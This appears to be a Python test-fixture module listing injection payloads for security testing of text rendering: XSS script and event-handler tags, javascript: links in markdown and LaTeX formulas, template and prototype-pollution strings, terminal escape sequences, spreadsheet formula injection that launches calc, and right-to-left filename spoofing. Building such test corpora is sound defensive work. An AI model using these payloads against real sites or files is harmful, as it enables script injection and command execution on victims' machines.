"""Strings that try to be more than text: script, markup, formulas, orders to a terminal.

Whatever runs sets ``window.hacked``, whatever is taken for HTML leaves an element with the
attribute ``data-injected``, and whatever asks for something asks ``payload.invalid``.
"""

RUN = "window.hacked=1"
TAG = "data-injected"
FAR = "https://payload.invalid"
LINK = rf"\href{{javascript:{RUN}}}{{a}}"

HTML = (
    f"<script {TAG}>{RUN}</script>",
    f"<ScRiPt {TAG}\n>{RUN}</sCrIpT >",
    f"</script><script {TAG}>{RUN}</script>",
    f"<script {TAG} src={FAR}/s.js></script>",
    f"<img {TAG} src=x onerror={RUN}>",
    f"<img {TAG} src={FAR}/i.png>",
    f'<IMG {TAG} SRC="x" ONERROR="{RUN}">',
    f"<img/{TAG}/src=x/onerror={RUN}//",
    f"<svg {TAG} onload={RUN}></svg>",
    f"<svg {TAG}><script>{RUN}</script></svg>",
    f"<svg {TAG}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<body {TAG} onload={RUN}>",
    f"<iframe {TAG} src=javascript:parent.{RUN}></iframe>",
    f'<iframe {TAG} srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object {TAG} data={FAR}/o></object>",
    f"<embed {TAG} src={FAR}/e>",
    f"<link {TAG} rel=stylesheet href={FAR}/l.css>",
    f"<style {TAG}>@import url({FAR}/c.css);</style>",
    f"<base {TAG} href={FAR}/>",
    f'<meta {TAG} http-equiv=refresh content="0;url={FAR}/r">',
    f"<details {TAG} open ontoggle={RUN}>a</details>",
    f"<video {TAG} src=x onerror={RUN}></video>",
    f"<input {TAG} autofocus onfocus={RUN}>",
    f"<form {TAG} action={FAR}><button autofocus>a</button></form>",
    f"<div {TAG} style=background:url({FAR}/b.png)>a</div>",
    f"</title><img {TAG} src=x onerror={RUN}>",
    f"</style><img {TAG} src=x onerror={RUN}>",
    f"</textarea><img {TAG} src=x onerror={RUN}>",
    f"</option></select><img {TAG} src=x onerror={RUN}>",
    f"</template><img {TAG} src=x onerror={RUN}>",
    f"</td></tr></table><img {TAG} src=x onerror={RUN}>",
    f"--><img {TAG} src=x onerror={RUN}>",
    f"]]><img {TAG} src=x onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><img {TAG} src=x onerror={RUN}>",
    f'" {TAG} autofocus onfocus={RUN} onmouseover={RUN} x="',
    f"' {TAG} autofocus onfocus={RUN} onmouseover={RUN} x='",
    f"` {TAG} onmouseover={RUN} `",
    f"&lt;img {TAG} src=x onerror={RUN}&gt;",
    f"&#60;img {TAG} src=x onerror={RUN}&#62;",
    f"&amp;lt;img {TAG} src=x onerror={RUN}&amp;gt;",
    f"\uff1cimg {TAG} src=x onerror={RUN}\uff1e",
    f"<a {TAG} href=javascript:{RUN}>a</a>",
)
MARKDOWN = (
    f"[a](javascript:{RUN})",
    f"![a]({FAR}/m.png)",
    f"<javascript:{RUN}>",
    f"[a]\n\n[a]: javascript:{RUN}",
    f"# a\n\n<img {TAG} src=x onerror={RUN}>",
    f"```\n```\n<img {TAG} src=x onerror={RUN}>",
)
FORMULAS = (
    f"${LINK}$",
    f"$${LINK}$$",
    rf"\({LINK}\)",
    rf"\[{LINK}\]",
    rf"\begin{{equation}}{LINK}\end{{equation}}",
    rf"$\require{{html}}\style{{background:url({FAR}/t.png)}}{{a}}$",
    r"$\class{data-injected}{\cssId{injected}{a}}$",
    r"$\def\a{\a\a}\a$",
    r"$\text{<img data-injected src=x>}$",
)
TEMPLATES = (
    "{{ 7 * 7 }}{% raw %}{# a #}",
    "{{ ''.__class__.__mro__ }}",
    "{0.__class__} {} %s %n",
    f"${{{RUN}}}",
    f"`;{RUN};`",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"\u2028{RUN}//",
    "%{x} %{fullData.name}<extra></extra>",
    f'<a href="{FAR}" {TAG}>a</a><b>a</b><br>a',
    "__proto__",
    "constructor",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;hacked\x07",
    f"\x1b]8;;{FAR}\x1b\\a\x1b]8;;\x1b\\",
    "\x9b31mred",
    "right\rwrong",
    "wrong\b\b\b\b\bright",
    "a\x00b\x7f",
)
CELLS = (
    f'=HYPERLINK("{FAR}","a")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
DIRECTIONS = ("\u202egpj.exe", "\u2066a\u2067b\u2069", "\u200fa\u061cb")
LENGTHS = ("x" * 5000, "\u0301" * 300, "a\nb")

PAYLOADS = (
    *HTML, *MARKDOWN, *FORMULAS, *TEMPLATES, *TERMINAL, *CELLS, *DIRECTIONS, *LENGTHS,
)  # fmt: skip
SAMPLE = PAYLOADS[::6]


def file_name(payload: str) -> str:
    """Turn a payload into a name that a file can have."""
    name = payload.replace("/", "\u2215").replace("\x00", "0")
    return name.encode()[:180].decode(errors="ignore") or "empty"
